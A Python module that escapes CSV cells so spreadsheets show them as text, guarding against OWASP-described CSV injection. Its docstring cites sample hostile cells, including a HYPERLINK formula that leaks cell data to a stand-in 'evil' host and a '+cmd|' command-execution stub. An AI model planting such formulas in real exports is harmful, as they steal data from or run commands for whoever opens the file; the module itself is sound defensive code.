"""CSV cells that a spreadsheet shows as text, never runs as a formula (OWASP "CSV Injection").

Exported cells hold what models and users wrote (`=HYPERLINK("http://evil/?"&A1, "click")`,
`+cmd|...`, `@SUM(...)`); Excel, LibreOffice and Sheets evaluate a cell that starts with
`=`, `+`, `-` or `@`, and also after a leading tab or carriage return. Following OWASP's
advice, such a cell gets a leading single quote, which the spreadsheet shows as text
and hides; `csv.writer` then quotes the cell and doubles its quotes as needed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """`value` unchanged unless it is text a spreadsheet would read as a formula; then `'` + value."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def to_csv_bytes(header: Iterable[str], rows: Iterable[Iterable[object]]) -> bytes:
    """A whole CSV file, every cell made safe, with a UTF-8 BOM so Excel reads Chinese text correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(c) for c in header])
    for row in rows:
        writer.writerow([safe_cell(c) for c in row])
    return buffer.getvalue().encode("utf-8-sig")
